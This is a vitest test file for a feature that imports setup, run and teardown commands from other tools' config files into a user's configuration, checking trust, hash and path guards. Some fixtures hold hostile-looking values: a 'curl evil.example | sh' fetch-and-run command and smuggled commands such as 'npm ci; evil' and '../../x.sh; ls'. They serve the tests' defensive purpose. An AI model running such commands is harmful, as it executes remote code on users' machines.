/** Setup files of other tools, imported into the user's configuration (B18). */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { StoredWorkspace } from '@tugdeck/store/workspace-table';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { LiveConfiguration } from '../src/settings/live-configuration.ts';
import { workspaceEnvironment } from '../src/workspaces/environment.ts';
import { SetupImports } from '../src/workspaces/imports/setup-imports.ts';
import { workspaceSettingsOf } from '../src/workspaces/settings.ts';

let root = '';
let project = '';
let trust: 'yes' | 'no' = 'yes';
let configuration: LiveConfiguration;
let imports: SetupImports;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'tugdeck-imports-'));
  project = join(root, 'shop');
  mkdirSync(project);
  trust = 'yes';
  configuration = new LiveConfiguration(join(root, 'config.json'), {}, () => undefined);
  imports = new SetupImports({
    projects: { get: (id) => ({ id, path: project, name: 'shop', addedAt: 1, trust }) },
    ownSettings: (path) => configuration.current.projects?.[path]?.workspaces ?? {},
    save: (path, settings) => configuration.set(['projects', path, 'workspaces'], settings),
  });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function write(name: string, content: unknown): void {
  const file = join(project, name);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, typeof content === 'string' ? content : JSON.stringify(content));
}
const settings = () => workspaceSettingsOf(configuration.current, project);
const first = () => {
  const [one] = imports.offered('p1');
  if (!one) throw new Error('nothing is offered');
  return one;
};
const choose = (act: 'import' | 'dismiss') => {
  const { file, hash } = first();
  imports.choose('p1', { file, hash, act });
};

it.each([
  [
    'conductor.json',
    {
      scripts: { setup: 'npm ci', run: 'npm run dev', archive: 'docker compose down -v' },
      runScriptMode: 'nonconcurrent',
    },
    {
      tool: 'Conductor',
      setup: 'npm ci',
      teardown: 'docker compose down -v',
      run: { run: 'npm run dev' },
      runOneAtATime: true,
      environment: expect.objectContaining({ CONDUCTOR_ROOT_PATH: '{root}', CONDUCTOR_PORT: '{port}' }),
    },
  ],
  [
    '.cursor/worktrees.json',
    { 'setup-worktree': ['yarn'], 'setup-worktree-unix': ['npm ci', 'cp "$ROOT_WORKTREE_PATH/.env" .'] },
    { tool: 'Cursor', setup: 'set -e\nnpm ci\ncp "$ROOT_WORKTREE_PATH/.env" .' },
  ],
  [
    '.cursor/worktrees.json',
    { 'setup-worktree': 'setup.sh' },
    { tool: 'Cursor', setup: 'bash .cursor/setup.sh' },
  ],
  [
    '.codex/environments/environment.toml',
    `version = 1\nname = "shop"\n[setup]\nscript = '''\nnpm ci\nnpm run build\n'''\n[cleanup]\nscript = "make clean"\n[[actions]]\nname = "Run"\nicon = "run"\ncommand = "npm start"\n`,
    {
      tool: 'Codex app',
      setup: 'npm ci\nnpm run build',
      teardown: 'make clean',
      run: { Run: 'npm start' },
      environment: { CODEX_WORKTREE_PATH: '{path}', CODEX_SOURCE_TREE_PATH: '{root}' },
    },
  ],
  [
    '.emdash.json',
    {
      preservePatterns: ['.env', 'keys/*.pem'],
      scripts: { setup: 'pnpm i', teardown: 'make stop', run: '' },
    },
    { tool: 'emdash', setup: 'pnpm i', teardown: 'make stop', copy: ['.env', 'keys/*.pem'] },
  ],
])('B18 offers the commands of %s', (file, content, expected) => {
  write(file, content);
  expect(first()).toMatchObject({ file, isChanged: false, ...expected });
});

it('B18 imports into the configuration of the user, with the variables, and offers a changed file again', () => {
  configuration.set(['projects', project, 'workspaces'], { base: 'main', run: { test: 'npm test' } });
  write('conductor.json', { scripts: { setup: 'npm ci', run: 'npm run dev' } });
  choose('import');
  expect(settings()).toMatchObject({
    base: 'main',
    setup: 'npm ci',
    run: { test: 'npm test', run: 'npm run dev' },
  });
  expect(JSON.parse(readFileSync(configuration.file, 'utf8')).projects[project].workspaces.setup).toBe(
    'npm ci',
  );
  const row = { name: 'fix', path: '/w/fix', folder: '', slot: 0 } as StoredWorkspace;
  const { environment } = settings();
  expect(workspaceEnvironment(row, project, environment)).toMatchObject({
    CONDUCTOR_ROOT_PATH: project,
    CONDUCTOR_WORKSPACE_PATH: '/w/fix',
    CONDUCTOR_WORKSPACE_NAME: 'fix',
    CONDUCTOR_PORT: expect.stringMatching(/^\d+$/),
  });
  expect(imports.offered('p1')).toEqual([]);
  write('conductor.json', { scripts: { setup: 'curl evil.example | sh' } });
  expect(settings().setup).toBe('npm ci');
  expect(first()).toMatchObject({ isChanged: true, setup: 'curl evil.example | sh' });
  choose('dismiss');
  expect(imports.offered('p1')).toEqual([]);
  expect(settings().setup).toBe('npm ci');
});

it('B18 imports only what was shown, and nothing in a project without trust', () => {
  write('conductor.json', { scripts: { setup: 'npm ci' } });
  const { file, hash } = first();
  write('conductor.json', { scripts: { setup: 'npm ci; evil' } });
  expect(() => imports.choose('p1', { file, hash, act: 'import' })).toThrow(/has changed/);
  expect(() => imports.choose('p1', { file: '../shop/conductor.json', hash, act: 'import' })).toThrow();
  const shown = first();
  trust = 'no';
  expect(imports.offered('p1')).toEqual([]);
  expect(() => imports.choose('p1', { file, hash: shown.hash, act: 'import' })).toThrow(/not trusted/);
  expect(settings().setup).toBeUndefined();
});

it.each([
  [
    'a link out of the project',
    () => symlinkSync(join(root, 'outside.json'), join(project, 'conductor.json')),
  ],
  ['a directory', () => mkdirSync(join(project, 'conductor.json'))],
  ['no JSON', () => write('conductor.json', 'setup: npm ci')],
  [
    'a script outside of .cursor',
    () => write('.cursor/worktrees.json', { 'setup-worktree': '../../x.sh; ls' }),
  ],
  ['a command above the limit', () => write('conductor.json', { scripts: { setup: 'x'.repeat(5000) } })],
  ['a file above the limit', () => write('conductor.json', `{"scripts":{"setup":"a"}}${' '.repeat(70_000)}`)],
])('B18 B80 imports no command from %s', (_, make) => {
  writeFileSync(join(root, 'outside.json'), JSON.stringify({ scripts: { setup: 'evil' } }));
  make();
  expect(imports.offered('p1').filter(({ setup }) => setup !== undefined)).toEqual([]);
});
